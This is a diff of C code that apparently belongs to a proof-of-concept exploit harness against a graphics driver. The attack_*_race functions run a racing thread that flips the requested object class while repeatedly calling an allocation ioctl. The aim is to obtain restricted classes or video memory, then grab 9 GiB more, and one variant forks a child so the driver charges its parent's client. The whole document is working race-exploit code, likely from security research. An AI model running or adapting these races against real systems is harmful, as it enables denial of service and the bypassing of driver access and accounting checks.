@@ -71,29 +71,58 @@ void attack_command_race (int argc, char **argv)
     say ("made", made);
 }
 
-/* A class that only the caller can make (an event), which becomes video memory. */
-void attack_class_race (int argc, char **argv)
+/* A class that becomes video memory. How many pieces there were. */
+static unsigned win (struct bed *bed, uint32_t class, unsigned rounds)
 {
-    struct bed bed = bed_open ();
     struct memory params = memory_of (64 * MIB);
-    struct alloc call = { bed.client, bed.device, 0, 0x79, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
-    struct flip flip = { &call.number, { 0x79, 0x40 }, false };
-    unsigned given = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 2000;
+    struct alloc call = { bed->client, bed->device, 0, class, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
+    struct flip flip = { &call.number, { class, 0x40 }, false };
+    unsigned given = 0;
     pthread_t thread;
 
     pthread_create (&thread, NULL, flipping, &flip);
     for (unsigned i = 0; i < rounds; i++) {
-        call.object = bed.next++;
+        call.object = bed->next++;
         call.status = 0xffff;
-        given += ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
+        given += ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
     }
     atomic_store (&stop, true);
     pthread_join (thread, NULL);
-    say ("given", given);
+    return given;
+}
+
+static void race (uint32_t class, int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    uint32_t handle;
+
+    say ("given", win (&bed, class, argc > 0 ? (unsigned) atoi (argv[0]) : 2000));
     hold ();
-    say ("more", bed_memory (&bed, &call.object, 9 * GIB));
+    say ("more", bed_memory (&bed, &handle, 9 * GIB));
     hold ();
 }
+
+/* One that only the caller can make: its own memory. */
+void attack_class_race (int argc, char **argv) { race (0x71, argc, argv); }
+
+/* The same by a child, on its parent's client, to whom the driver counts it. */
+void attack_heir_race (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    int status;
+    pid_t child = fork ();
+
+    if (child == 0) {
+        win (&bed, 0x71, argc > 0 ? (unsigned) atoi (argv[0]) : 2000);
+        _exit (0);
+    }
+    waitpid (child, &status, 0);
+    say ("child", (uint64_t) status);
+    hold ();
+}
+
+/* An event, which the guard makes. */
+void attack_event_race (int argc, char **argv) { race (0x79, argc, argv); }
 
 static volatile unsigned rang;
 
